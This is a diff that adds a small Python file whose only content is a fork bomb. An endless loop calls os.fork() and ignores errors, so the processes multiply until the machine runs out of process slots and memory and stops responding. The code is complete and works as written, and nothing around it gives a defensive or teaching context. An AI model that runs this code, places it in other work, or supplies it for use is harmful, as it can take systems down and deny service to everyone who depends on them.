@@ -1,0 +1,8 @@
+# Fork forever; children do the same.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
